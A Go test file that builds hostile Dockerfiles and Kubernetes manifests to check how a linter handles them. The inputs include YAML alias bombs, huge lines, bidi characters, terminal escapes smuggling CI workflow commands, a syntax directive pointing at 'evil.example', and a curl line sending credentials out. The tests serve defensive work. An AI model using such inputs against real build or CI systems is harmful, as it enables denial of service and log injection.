package main

import (
	"fmt"
	"strings"
)

const from = "FROM debian:12@sha256:0000000000000000000000000000000000000000000000000000000000000000\n"

// linted are the arguments that lint what is in the scene.
func linted(s *scene, flag, path string) []string {
	return []string{"gate", flag, path, "--output", "terminal=-", "--output", "json=report.json"}
}

// dockerfileCases are rows 92 to 103.
func dockerfileCases() []hostileCase {
	const many = 100_000
	file := func(row, name string, exits []int, says, hides string, make func() string) hostileCase {
		return hostileCase{row: row, name: name, exits: exits, says: says, hides: hides, seconds: 60, megabytes: 1024, prepare: func(s *scene) ([]string, error) {
			path, err := s.write("Dockerfile", []byte(make()))
			return linted(s, "--dockerfile", path), err
		}}
	}
	text := func(t string) func() string { return func() string { return t } }
	return []hostileCase{
		file("92", "df-long-line", refused, "", "", func() string { return from + "RUN " + strings.Repeat("a", 64<<20) }),
		file("93", "df-continuations", either, "PC-DF", "", func() string {
			return from + "RUN true" + strings.Repeat(" \\\n  && sudo echo x", 2*many) + "\n"
		}),
		file("94", "df-arg-doubling", refused, "", "", text(from+"ARG A=xxxxxxxxxx\n"+strings.Repeat("ARG A=$A$A\n", 64)+"RUN $A\n")),
		file("95", "df-heredoc-endless", refused, "", "", func() string { return from + "RUN <<EOF\n" + strings.Repeat("a\n", many) }),
		file("96", "df-onbuild", either, "PC-DF", "", func() string { return from + strings.Repeat("ONBUILD ", 5_000) + "RUN a\n" }),
		file("97", "df-directives", either, "PC-DF", "", text("# escape=`\n# escape=\\\n# syntax=evil.example/frontend:latest\n"+from)),
		file("98", "df-bidi", either, "PC-DF035", "", text(from+"RUN echo \u202e a\n")),
		file("99", "df-encoding", refused, "", "", func() string { return string(utf16le(from)) }),
		file("100", "df-injection", either, "PC-DF", "", text(from+"LABEL a=\"\x1b[2J::set-output name=x::y\"\nUSER root\n")),
		file("101", "df-secrets", []int{1}, "secret", "Tr0ub4dor", text(from+"ENV DB_PASSWORD=Tr0ub4dor-and-3-horses\nARG NPM_TOKEN=npm_abcdefghijklmnopqrstuvwxyz0123456789\nRUN curl -u admin:Tr0ub4dor-and-3-horses https://x.example\n")),
		file("102", "df-empty", refused, "", "", text("")),
		file("103", "df-many-stages", either, "PC-DF", "", func() string {
			var b strings.Builder
			b.WriteString(strings.TrimSuffix(from, "\n") + " AS s0\n")
			for i := 1; i < many; i++ {
				fmt.Fprintf(&b, "FROM s%d AS s%d\n", i-1, i)
			}
			return b.String()
		}),
	}
}

const privileged = "apiVersion: v1\nkind: Pod\nmetadata: {name: p}\nspec:\n  containers:\n    - name: c\n      securityContext:\n        privileged: true\n"

// kubernetesCases are rows 104 to 118.
func kubernetesCases() []hostileCase {
	file := func(row, name string, exits []int, says string, make func() string) hostileCase {
		return hostileCase{row: row, name: name, exits: exits, says: says, seconds: 90, megabytes: 1536, prepare: func(s *scene) ([]string, error) {
			path, err := s.write("pod.yaml", []byte(make()))
			return linted(s, "--manifests", path), err
		}}
	}
	text := func(t string) func() string { return func() string { return t } }
	found := []int{1}
	both := []int{4}
	return []hostileCase{
		file("1", "k8s-ok", found, "k8s-privileged", text(privileged)),
		file("104", "k8s-laughs", refused, "", func() string { return privileged + "x:\n" + yamlLaughs() }),
		file("105", "k8s-merge", refused, "", func() string {
			var b strings.Builder
			b.WriteString(privileged + "m0: &m0 {a: 1, b: 2}\n")
			for i := 1; i < 40; i++ {
				fmt.Fprintf(&b, "m%d: &m%d {<<: [*m%d, *m%d], k%d: *m%d, l%d: *m%d}\n", i, i, i-1, i-1, i, i-1, i, i-1)
			}
			return b.String()
		}),
		file("106", "k8s-cycle", refused, "", text(privileged+"x: &x [*x]\n")),
		file("107", "k8s-deep-block", refused, "", func() string {
			var b strings.Builder
			for i := range 5_000 {
				b.WriteString(strings.Repeat(" ", i+1) + "a:\n")
			}
			return privileged + "x:\n" + b.String()
		}),
		file("107", "k8s-deep-flow", refused, "", func() string {
			return privileged + "x: " + strings.Repeat("{a: ", 500_000) + strings.Repeat("}", 500_000) + "\n"
		}),
		file("108", "k8s-many-documents", either, "k8s-privileged", func() string {
			return strings.Repeat("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\n---\n", 50_000) + privileged
		}),
		file("109", "k8s-hidden-document", found, "k8s-privileged", text("a: 1\n--- # more\n"+privileged)),
		file("110", "k8s-broken-middle", both, "k8s-privileged", text("a: 1\n---\nb: [\n---\n"+privileged)),
		file("111", "k8s-duplicate-keys", refused, "", text(privileged+"        privileged: false\n")),
		file("112", "k8s-nested-list", found, "k8s-privileged", text("apiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: List\n  items:\n  - {apiVersion: v1, kind: Pod, spec: {containers: [{name: c, securityContext: {privileged: true}}]}}\n")),
		file("113", "k8s-odd-spellings", found, "k8s-privileged", text(strings.Replace(privileged, "true", "\"true\"", 1)+"  initContainers:\n    - name: i\n      securityContext: {privileged: yes}\n")),
		file("114", "k8s-injection", found, "k8s-privileged", text(strings.Replace(privileged, "name: c", "name: \"c\\e[31m\\n::error::x\\u202e\"", 1))),
		file("115", "k8s-template", refused, "", text(strings.Replace(privileged, "name: c", "name: {{ .Values.name }}", 1))),
		file("116", "k8s-utf16", []int{1, 4}, "", func() string { return string(utf16le(privileged)) }),
		file("117", "k8s-latin1", refused, "", text(privileged+"# \xe9\n")),
		file("118", "k8s-long-scalar", []int{1, 4}, "k8s-privileged|more than|limit", func() string {
			return privileged + "x: \"" + strings.Repeat("x", 64<<20) + "\"\n"
		}),
	}
}
